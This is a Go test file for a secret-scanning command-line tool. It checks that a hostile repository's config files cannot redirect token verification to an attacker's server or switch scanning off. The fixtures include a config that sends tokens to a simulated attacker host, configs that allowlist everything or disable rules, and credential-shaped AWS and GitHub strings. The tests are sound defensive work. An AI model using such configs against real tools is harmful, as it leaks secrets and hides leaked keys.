package cli

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/achilles-sec/achilles/scanner/finding"
)

// The trust boundary of configuration: a rules or ignore file found in the
// scanned repository is the repository's word, and the repository may be an
// attacker's. These tests play the attacker through the built binary.

const (
	// trustAWSKey is an access key id of the documented shape (not a canary
	// account); trustGitHubToken a classic token whose checksum holds.
	trustAWSKey      = "AKIAZ3MHBRVXQ7PLKW4N"
	trustGitHubToken = "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"
)

// connectRecorder is an HTTPS proxy on loopback that records the hosts
// verification tried to reach through it and refuses every tunnel, so a
// request meant for a provider's official host is seen and goes nowhere.
type connectRecorder struct {
	*httptest.Server
	mu    sync.Mutex
	hosts []string
}

func newConnectRecorder(t *testing.T) *connectRecorder {
	c := &connectRecorder{}
	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		c.hosts = append(c.hosts, r.Host)
		c.mu.Unlock()
		w.WriteHeader(http.StatusForbidden)
	}))
	t.Cleanup(c.Close)
	return c
}

func (c *connectRecorder) seen() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.hosts...)
}

// attackerHost is a TLS server (trusted through SSL_CERT_FILE, as a real
// host with a real certificate would be) that answers every request as a
// provider would for a revoked key, and counts what it receives.
type attackerHost struct {
	*httptest.Server
	mu       sync.Mutex
	requests int
	secrets  []string
}

func newAttackerHost(t *testing.T) *attackerHost {
	a := &attackerHost{}
	a.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		a.requests++
		a.secrets = append(a.secrets, r.Header.Get("Authorization"))
		a.mu.Unlock()
		w.WriteHeader(http.StatusUnauthorized)
		w.Write([]byte(`{"message":"Bad credentials"}`))
	}))
	// The CLI trusts fakeProvider's certificate: serve the same one.
	a.Server.TLS = fakeProvider.TLS.Clone()
	a.Server.StartTLS()
	t.Cleanup(a.Close)
	return a
}

func (a *attackerHost) count() int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.requests
}

// runBinary runs the built binary in dir with extra environment.
func runBinary(t *testing.T, dir string, env []string, args ...string) result {
	t.Helper()
	return execAchilles(t, dir, append(append(os.Environ(), "ACHILLES_CONFIG=", "GIT_CONFIG_NOSYSTEM=1", "HOME="+dir), env...), "", args...)
}

// execAchilles runs the built binary in dir with exactly env and stdin:
// the one way the trust tests run it.
func execAchilles(t *testing.T, dir string, env []string, stdin string, args ...string) result {
	t.Helper()
	cmd := exec.Command(achillesBinary(t), args...)
	cmd.Dir = dir
	cmd.Env = env
	cmd.Stdin = strings.NewReader(stdin)
	var stdout, stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("running achilles %v: %v", args, err)
	}
	return result{code: code, stdout: stdout.String(), stderr: stderr.String()}
}

func decodeFindings(t *testing.T, r result) []finding.Finding {
	t.Helper()
	var fs []finding.Finding
	if err := json.Unmarshal([]byte(r.stdout), &fs); err != nil {
		t.Fatalf("report is not JSON: %v\n%+v", err, r)
	}
	return fs
}

func ruleIDs(fs []finding.Finding) map[string]int {
	out := map[string]int{}
	for _, f := range fs {
		out[f.RuleID]++
	}
	return out
}

// Vector 1: a committed .achilles.toml that points verification at its own
// host, through [verify.endpoints] and through a [[verify.http]] declaring a
// built-in verifier's id, receives nothing; verification goes to the
// official host only, and a warning names the file. With
// --trust-repo-verify the user opts in, and only then does the declared
// host hear from achilles.
func TestRepositoryConfigCannotRedirectVerification(t *testing.T) {
	attacker := newAttackerHost(t)
	proxy := newConnectRecorder(t)
	r := newGitRepo(t)
	r.write(".achilles.toml", fmt.Sprintf(`[verify.endpoints]
github = %[1]q
aws = %[1]q

[[verify.http]]
id = "github"
url = "%[1]s/user"
headers = { Authorization = "token {{secret}}" }
dead = { status = [401] }
`, attacker.URL))
	r.write("deploy.env", "GITHUB_TOKEN="+trustGitHubToken+"\n")
	r.run("git", "add", "-A")
	r.run("git", "commit", "-qm", "add deploy settings")

	env := []string{"HTTPS_PROXY=" + proxy.URL, "https_proxy=" + proxy.URL, "NO_PROXY=", "no_proxy="}
	res := runBinary(t, r.dir, env, "git", ".", "--verify", "--fail-on", "live", "-f", "json", "--no-progress")
	if n := attacker.count(); n != 0 {
		t.Fatalf("the repository's host received %d verification requests", n)
	}
	if !strings.Contains(res.stderr, ".achilles.toml") || !strings.Contains(res.stderr, "[verify] ignored") {
		t.Errorf("no warning names the ignored [verify] table:\n%s", res.stderr)
	}
	fs := decodeFindings(t, res)
	var gh *finding.Finding
	for i := range fs {
		if fs[i].Secret == trustGitHubToken {
			gh = &fs[i]
		}
	}
	if gh == nil || gh.Verification == nil {
		t.Fatalf("the token is not reported with a verification: %+v", fs)
	}
	// The refusing proxy makes the official host unreachable: unknown, not
	// the attacker's "dead".
	if gh.Verification.Status != "unknown" {
		t.Errorf("verification status %q, want unknown (the official host was not reachable)", gh.Verification.Status)
	}
	if hosts := proxy.seen(); len(hosts) == 0 || !strings.HasPrefix(hosts[0], "api.github.com") {
		t.Errorf("verification did not go to the official host: %v", hosts)
	}
	// --fail-on live with nothing live passes: exit 0, but the attacker did
	// not decide that (its "dead" was never asked for).
	if res.code != 0 {
		t.Errorf("exit %d, want 0 (nothing verified live)", res.code)
	}

	// The opt-in: the user trusts this repository to name its hosts.
	res = runBinary(t, r.dir, env, "git", ".", "--verify", "--trust-repo-verify", "-f", "json", "--no-progress")
	if attacker.count() == 0 {
		t.Fatalf("with --trust-repo-verify the declared host was not asked: %+v", res)
	}
	if strings.Contains(res.stderr, "[verify] ignored") {
		t.Errorf("--trust-repo-verify still ignores [verify]:\n%s", res.stderr)
	}
}

// Vector 3: a repository cannot switch its own scan off. An empty rules file
// keeps the built-in rules; a rules file that allowlists every path is
// counted in the summary in a full scan and does not apply to a pull
// request that adds it; a rules file that is a symlink to /dev/zero is
// refused (and read no further); every summary names the rules used.
func TestRepositoryConfigCannotSwitchScanOff(t *testing.T) {
	r := newGitRepo(t)
	r.write("README", "hello\n")
	r.run("git", "add", "-A")
	r.run("git", "commit", "-qm", "base")
	r.run("git", "branch", "base")
	r.run("git", "update-ref", "refs/remotes/origin/main", "HEAD")

	t.Run("empty", func(t *testing.T) {
		r.write(".achilles.toml", "")
		r.write("k.txt", "aws_access_key_id = "+trustAWSKey+"\n")
		res := runBinary(t, r.dir, nil, "dir", ".", "-f", "json", "--no-progress")
		if res.code != ExitFindings || ruleIDs(decodeFindings(t, res))["aws-access-key-id"] != 1 {
			t.Fatalf("an empty .achilles.toml switched the built-in rules off: %+v", res)
		}
		if !strings.Contains(res.stderr, "rules: built-in + repository configuration .achilles.toml") {
			t.Errorf("the summary does not name the rules used:\n%s", res.stderr)
		}
	})

	t.Run("allowlist everything", func(t *testing.T) {
		r.write(".achilles.toml", "[allowlist]\npaths = ['.*']\n")
		r.write("k.txt", "aws_access_key_id = "+trustAWSKey+"\n")
		r.run("git", "add", "-A")
		r.run("git", "commit", "-qm", "add key and silence achilles")
		// The pull request that adds both: the allowlist does not apply to
		// it, and the change to .achilles.toml is itself reported.
		for _, mode := range [][]string{{"--range", "base..HEAD"}, {"--since", "base"}, {"--ci"}} {
			args := append([]string{"git", "."}, mode...)
			res := runBinary(t, r.dir, []string{"GITHUB_BASE_REF=main"}, append(args, "-f", "json", "--no-progress")...)
			ids := ruleIDs(decodeFindings(t, res))
			if res.code != ExitFindings || ids["aws-access-key-id"] != 1 || ids[configChangeRule] != 1 {
				t.Fatalf("%v: the range's own allowlist applied to it: %+v", mode, res)
			}
			if !strings.Contains(res.stderr, "base commit") {
				t.Errorf("%v: the summary does not say where the rules came from:\n%s", mode, res.stderr)
			}
		}
		// A full scan honours the work tree's file, and says how much it hid.
		res := runBinary(t, r.dir, nil, "git", ".", "-f", "json", "--no-progress")
		if res.code != 0 || len(decodeFindings(t, res)) != 0 {
			t.Fatalf("%+v", res)
		}
		if !strings.Contains(res.stderr, "repository allowlists suppressed 1 match") {
			t.Errorf("the suppression is not counted:\n%s", res.stderr)
		}
	})

	t.Run("symlink to /dev/zero", func(t *testing.T) {
		os.Remove(filepath.Join(r.dir, ".achilles.toml"))
		if err := os.Symlink("/dev/zero", filepath.Join(r.dir, ".achilles.toml")); err != nil {
			t.Skip(err)
		}
		res := runBinary(t, r.dir, nil, "dir", ".", "-f", "json", "--no-progress")
		if res.code != ExitFindings || ruleIDs(decodeFindings(t, res))["aws-access-key-id"] != 1 {
			t.Fatalf("%+v", res)
		}
		if !strings.Contains(res.stderr, "symbolic link: refused") {
			t.Errorf("the symlink is not named:\n%s", res.stderr)
		}
	})

	t.Run("too large", func(t *testing.T) {
		os.Remove(filepath.Join(r.dir, ".achilles.toml"))
		r.write(".achilles.toml", "# "+strings.Repeat("x", 1<<20)+"\n")
		res := runBinary(t, r.dir, nil, "dir", ".", "-f", "json", "--no-progress")
		if res.code != ExitFindings || !strings.Contains(res.stderr, "larger than") {
			t.Fatalf("%+v", res)
		}
	})
}

// A rules file with no active rule is an error, not a scan that finds
// nothing.
func TestRuleSetWithoutActiveRuleIsAnError(t *testing.T) {
	dir := t.TempDir()
	empty := filepath.Join(dir, "empty.toml")
	os.WriteFile(empty, []byte("title = 'nothing'\n"), 0o644)
	res := runBinary(t, dir, nil, "stdin", "-c", empty)
	if res.code != ExitUsage || !strings.Contains(res.stderr, "no active rule") {
		t.Fatalf("%+v", res)
	}
	r := newGitRepo(t)
	r.write(".gitleaks.toml", "[extend]\ndisabledRules = ['aws-access-key-id']\n")
	r.write("k.txt", "aws_access_key_id = "+trustAWSKey+"\n")
	res = runBinary(t, r.dir, nil, "dir", ".", "-f", "json", "--no-progress")
	if res.code != ExitFindings || ruleIDs(decodeFindings(t, res))["aws-access-key-id"] != 1 || !strings.Contains(res.stderr, "disabledRules ignored") {
		t.Fatalf(".gitleaks.toml switched a built-in rule off: %+v", res)
	}
}

// A range cannot weaken its own scan through ignore files either: an
// .achillesignore entry added in the range does not apply to it and the
// change is reported, while one already at the base applies; inline allow
// comments added in the range still apply and are counted.
func TestRangeReadsIgnoreFilesFromItsBase(t *testing.T) {
	r := newGitRepo(t)
	r.write("README", "hello\n")
	r.run("git", "add", "-A")
	r.run("git", "commit", "-qm", "base")
	r.run("git", "checkout", "-qb", "feature")
	r.write("k.txt", "aws_access_key_id = "+trustAWSKey+"\n")
	r.write("docs.md", "example: "+trustGitHubToken+" # achilles:allow\n")
	r.run("git", "add", "-A")
	r.run("git", "commit", "-qm", "leak")
	fp := finding.MakeFingerprint("aws-access-key-id", trustAWSKey, "k.txt")
	r.write(".achillesignore", fp+"\n")
	r.run("git", "add", "-A")
	r.run("git", "commit", "-qm", "ignore it")

	res := runBinary(t, r.dir, nil, "git", ".", "--range", "main..feature", "-f", "json", "--no-progress")
	ids := ruleIDs(decodeFindings(t, res))
	if res.code != ExitFindings || ids["aws-access-key-id"] != 1 || ids[configChangeRule] != 1 || ids["github-pat-classic"] != 0 {
		t.Fatalf("%+v", res)
	}
	if !strings.Contains(res.stderr, "allowed inline") {
		t.Errorf("the inline allow is not counted:\n%s", res.stderr)
	}
	// The same ignore entry merged into the base applies to later ranges.
	r.run("git", "checkout", "-q", "main")
	r.run("git", "merge", "-q", "--ff-only", "feature")
	r.run("git", "checkout", "-qb", "next")
	r.write("other.txt", "x\n")
	r.run("git", "add", "-A")
	r.run("git", "commit", "-qm", "unrelated")
	r.write("k.txt", "aws_access_key_id = "+trustAWSKey+"\n# touched\n")
	r.run("git", "add", "-A")
	r.run("git", "commit", "-qm", "touch the file")
	res = runBinary(t, r.dir, nil, "git", ".", "--range", "main..next", "-f", "json", "--no-progress")
	if res.code != 0 || len(decodeFindings(t, res)) != 0 {
		t.Fatalf("the base's ignore entry did not apply: %+v", res)
	}
}

// Pre-push takes the base from the remote side of the update: a pushed
// commit that adds an allowlist for its own key is still blocked.
func TestPrePushReadsConfigFromRemoteSide(t *testing.T) {
	r := newGitRepo(t)
	r.write("README", "hello\n")
	r.run("git", "add", "-A")
	r.run("git", "commit", "-qm", "base")
	remote := strings.TrimSpace(r.run("git", "rev-parse", "HEAD"))
	r.run("git", "update-ref", "refs/remotes/origin/main", remote)
	r.write(".gitleaks.toml", "[allowlist]\nregexes = ['AKIA']\n")
	r.write("k.txt", "aws_access_key_id = "+trustAWSKey+"\n")
	r.run("git", "add", "-A")
	r.run("git", "commit", "-qm", "leak")
	local := strings.TrimSpace(r.run("git", "rev-parse", "HEAD"))
	res := r.achilles(r.dir, "refs/heads/main "+local+" refs/heads/main "+remote+"\n", nil, "git", ".", "--pre-push", "-f", "json", "--no-progress")
	if res.code != ExitFindings {
		t.Fatalf("pre-push passed: %+v", res)
	}
	ids := ruleIDs(decodeFindings(t, res))
	if ids["aws-access-key-id"] != 1 || ids[configChangeRule] != 1 {
		t.Fatalf("%+v", res)
	}
}
